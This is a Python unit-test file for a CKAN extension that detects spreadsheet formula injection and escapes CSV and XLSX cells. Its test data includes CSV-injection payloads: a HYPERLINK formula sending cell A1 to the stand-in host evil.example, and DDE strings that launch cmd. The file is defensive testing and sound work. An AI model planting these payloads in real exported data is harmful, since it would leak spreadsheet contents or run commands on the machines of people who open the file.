"""``cells``: what a spreadsheet would run as a formula, and how CSV and XLSX writers defuse it
(issue 14, item 6)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from ckanext.govshare import cells

pytestmark = pytest.mark.unit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
FORMULAS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tanything",
    "  =1+1",
    "\u3000=1+1",  # an ideographic space first
    "\n@SUM(A1)",
    "-",
    "+86 10 1234 5678",
]
HARMLESS = ["", "人口基础信息", "a=b", "x-1", "1-2", "e@example.org", " plain", "'quoted"]
NUMBERS = ["-12", "-12.50", "+86", "1e-3", "-1,234.5", "-5%", " -7 "]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like(text: str) -> None:
    assert cells.formula_like(text)
    assert cells.csv_value(text) == "'" + text
    assert cells.csv_unquote(cells.csv_value(text)) == text


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_harmless_text_and_numbers_in_text_are_kept(text: str) -> None:
    assert not cells.formula_like(text)
    assert cells.csv_value(text) == text
    assert cells.csv_unquote(text) == text


@pytest.mark.parametrize("text", ["'=written with a quote", "''+cmd", "'\t"])
def test_text_that_starts_with_a_quote_reads_back_as_written(text: str) -> None:
    assert not cells.formula_like(text)
    assert cells.csv_value(text) == "'" + text
    assert cells.csv_unquote(cells.csv_value(text)) == text


@pytest.mark.parametrize("value", [-5, -0.25, 0, 3, None, True])
def test_values_that_are_not_text_are_kept(value: object) -> None:
    assert not cells.formula_like(value)
    assert cells.csv_value(value) is value


def test_a_csv_row_reads_back_as_text_that_starts_with_a_quote() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells.csv_row([HYPERLINK, -5, "-5", "ok", None]))
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + HYPERLINK, "-5", "-5", "ok", ""]


def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    cells.xlsx_append(sheet, ["header"])
    cells.xlsx_append(sheet, [HYPERLINK, -5, "-5", "ok", "@SUM(1)", None])
    buffer = io.BytesIO()
    book.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    row = list(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in row[:5]] == [
        (HYPERLINK, "s"),
        (-5, "n"),
        ("-5", "s"),
        ("ok", "s"),
        ("@SUM(1)", "s"),
    ]
    assert [c.quotePrefix for c in row[:5]] == [True, False, False, False, True]


def test_openpyxl_alone_would_store_a_formula() -> None:
    """What the module guards against: a plain ``append`` keeps ``=…`` as a formula."""
    book = Workbook()
    book.active.append([HYPERLINK])
    buffer = io.BytesIO()
    book.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" in xml
